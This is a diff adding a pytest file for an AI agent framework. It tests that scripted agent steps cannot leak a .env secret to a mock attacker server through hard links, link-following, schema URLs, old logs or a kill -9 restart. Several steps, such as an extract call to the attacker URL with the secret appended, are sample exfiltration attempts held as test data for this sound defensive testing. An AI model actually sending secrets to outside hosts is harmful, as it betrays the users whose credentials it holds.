@@ -1,0 +1,212 @@
+"""Flows where they are easily lost: hard links, links on many hosts, a schema's address, old logs, kill -9."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from retinue import Retinue
+from retinue.authority import flows
+from retinue.engine.bring import files_in
+from retinue.events import RunStarted, decode, encode
+from retinue.store.memory import MemoryStore
+from retinue.testing import call
+from retinue.workspace import Files
+from test_flows import SECRET, Attacker, attacker, events_of, project, results, retinue_in, serving
+
+__all__ = ["attacker", "project"]
+
+
+async def told(retinue: Retinue, prompt: str = "go", **more: Any) -> list[Any]:
+    run_id = await retinue.start("general", prompt, **more)
+    await retinue.wait(run_id)
+    return results(await events_of(retinue, run_id))
+
+
+@pytest.mark.parametrize("pattern", [SECRET, "PASSWORD=t", "PASSWORD=x"])
+async def test_a_search_leaves_out_a_hard_link_of_a_file_of_secrets(
+    project: Path, attacker: Attacker, pattern: str
+) -> None:
+    """And says so in the same words whatever was searched for: else that would tell what is in it."""
+    (project / "sub").mkdir()
+    (project / "sub/plain.txt").hardlink_to(project / ".env")
+    (project / "other-name.md").hardlink_to(project / "other.md")
+    steps = [call("grep", pattern=pattern), call("grep", pattern="Nothing", path="."), "done"]
+    async with retinue_in(project, attacker, steps) as retinue:
+        found, harmless = await told(retinue)
+    assert "plain.txt" not in found.text
+    assert "PASSWORD=" + SECRET not in found.text
+    assert "2 files left out: files like these usually hold secrets" in found.text
+    assert "other-name.md" in harmless.text
+
+
+async def test_a_rule_that_opens_the_file_of_secrets_opens_its_hard_link(
+    project: Path, attacker: Attacker
+) -> None:
+    (project / "plain.txt").hardlink_to(project / ".env")
+    steps = [call("grep", pattern=SECRET), "done"]
+    async with retinue_in(project, attacker, steps, settings={"approvals.allow": ["grep(.env)"]}) as retinue:
+        (found,) = await told(retinue)
+    assert "plain.txt" in found.text
+
+
+async def test_links_are_followed_so_often_on_all_hosts_together(
+    project: Path, attacker: Attacker, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(flows, "MOST_IN_ALL", 25)
+    async with serving() as second:
+        for host in (attacker, second):
+            host.pages["/index"] = "".join(f"<p><a href='/l{n}'>{n}</a></p>" for n in range(30))
+        follow = [
+            call("web_fetch", id=f"{n}{host.url}", url=f"{host.url}/l{n}")
+            for host in (attacker, second)
+            for n in range(15)
+        ]
+        steps = [
+            [call("web_fetch", id=host.url, url=f"{host.url}/index") for host in (attacker, second)],
+            call("read", path="notes.md"),
+            *follow,
+            "done",
+        ]
+        prompt = f"look around on {attacker.url} and {second.url}"
+        more = {"web.allow_hosts": [attacker.host, second.host]}
+        async with retinue_in(project, attacker, steps, settings=more) as retinue:
+            _, _, _, *followed = await told(retinue, prompt, settings={"limits.max_turns": 60})
+    assert [event.is_error for event in followed] == [False] * 25 + [True] * 5
+    assert "25 links have been followed since" in followed[-1].text
+
+
+async def test_the_address_of_a_schema_is_not_dialled_and_asks_nobody(
+    project: Path, attacker: Attacker
+) -> None:
+    (project / "page.html").write_text("<table><tr><th>name</th></tr><tr><td>x</td></tr></table>")
+    schema = {
+        "$schema": "https://json-schema.org/draft/2020-12/schema",
+        "type": "object",
+        "properties": {"name": {"type": "string"}},
+    }
+    steps = [
+        call("read", path="notes.md"),
+        call("extract", source="page.html", fields=schema),
+        call("extract", source=f"{attacker.url}/{SECRET}", fields=schema),
+        "done",
+    ]
+    async with retinue_in(project, attacker, steps) as retinue:
+        _, mine, composed = await told(retinue)
+    assert not mine.not_run
+    assert composed.not_run == "unattended"
+    assert "json-schema" not in composed.text
+    assert attacker.got == []
+
+
+async def test_a_web_agent_of_an_old_log_sees_no_more_than_one_of_today(
+    project: Path, attacker: Attacker, tmp_path: Path
+) -> None:
+    """Older logs do not say what their agents see."""
+    store = MemoryStore()
+    steps = [call("view", path=str(project / "notes.md")), "done"]
+    async with retinue_in(project, attacker, ["one"], db=store) as retinue:
+        run_id = await retinue.start("agentic-fetch", "go")
+        await retinue.wait(run_id)
+        log = await events_of(retinue, run_id)
+    old = MemoryStore()
+    for event in log:
+        raw = json.loads(encode(event))
+        if isinstance(event, RunStarted):
+            assert raw["spec"].pop("files") == "workspace"
+        await old.append([decode(json.dumps(raw).encode())])
+    async with retinue_in(project, attacker, steps, db=old) as retinue:
+        await retinue.resume(run_id, message="more")
+        await retinue.wait(run_id)
+        texts = [event.text for event in results(await events_of(retinue, run_id))]
+    assert texts
+    assert not any(SECRET in text for text in texts)
+
+
+def test_long_texts_are_looked_through_for_files_without_looking_each_word_up(project: Path) -> None:
+    """Every word was opened: 0.7 s for 3,000 of them, in the event loop."""
+    files = Files(project=project, workspace=None)
+    opened: list[str] = []
+    locate = files.locate
+
+    def counted(path: str) -> Any:
+        opened.append(path)
+        return locate(path)
+
+    files.locate = counted  # pyright: ignore
+    text = " ".join(f"word{n}" for n in range(1900)) + " see notes.md, ./other.md and NOTES.md"
+    assert list(files_in(text, files))[:2] == ["notes.md", "other.md"]
+    assert len(opened) < 20
+    files.close()
+
+
+PROGRAM = """
+import asyncio, os, signal, sys
+from pathlib import Path
+from retinue import Retinue
+from retinue.engine.inbox import Answer
+from trees import Cast, agent, turn
+db, project, first, second, resumed = sys.argv[1:6]
+def play(request):
+    steps = [
+        [("read", {"path": "notes.md"})],
+        [("web_fetch", {"url": first + "/made-up"})],
+        [("hold", {})],
+        [("web_fetch", {"url": first + "/made-up-too"})],
+        [("web_fetch", {"url": second + "/made-up"})],
+        "done",
+    ]
+    return steps[turn(request)]
+from retinue import tool
+@tool(effect="network", repeatable=True)
+async def hold() -> str:
+    "Hold."
+    if resumed == "no":
+        Path(project, "held").touch()
+        await asyncio.Event().wait()
+    return "held"
+async def approve(question):
+    with open(Path(project, "asked"), "a") as file:
+        file.write(question.arguments + "\\n")
+    return Answer(decision="approve" if resumed == "no" else "reject", reason="no")
+async def main():
+    hosts = [url.partition("://")[2] for url in (first, second)]
+    settings = {"web.allow_hosts": hosts, "web.robots": False}
+    spec = agent("root")
+    async with Retinue(model=Cast({"root": play}), db=f"sqlite:///{db}", cwd=Path(project), tools=[hold], environ={}, approve=approve, settings=settings) as retinue:
+        if resumed == "no":
+            await retinue.run(spec, "go")
+        else:
+            (row,) = [row for row in await retinue.runs()]
+            print((await retinue.wait(await retinue.resume(row.run_id))).status)
+asyncio.run(main())
+"""
+
+
+async def test_what_was_read_and_allowed_is_known_after_kill_9(
+    project: Path, attacker: Attacker, tmp_path: Path
+) -> None:
+    async with serving() as second:
+        given = [str(tmp_path / "runs.db"), str(project), attacker.url, second.url]
+        command = [sys.executable, "-c", PROGRAM, *given]
+        env = {"PYTHONPATH": str(Path(__file__).parent), "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
+        first = await asyncio.create_subprocess_exec(*command, "no", env=env)
+        while not (project / "held").exists():
+            assert first.returncode is None
+            await asyncio.sleep(0.02)
+        first.kill()
+        await first.wait()
+        (project / "asked").unlink()
+        again = await asyncio.create_subprocess_exec(*command, "yes", env=env, stdout=subprocess.PIPE)
+        said, _ = await again.communicate()
+        assert b"completed" in said
+        assert attacker.paths() == ["/made-up", "/made-up-too"], "allowed before, and still"
+        assert second.got == []
+        assert f"{second.url}/made-up" in (project / "asked").read_text()
+        assert attacker.url not in (project / "asked").read_text()
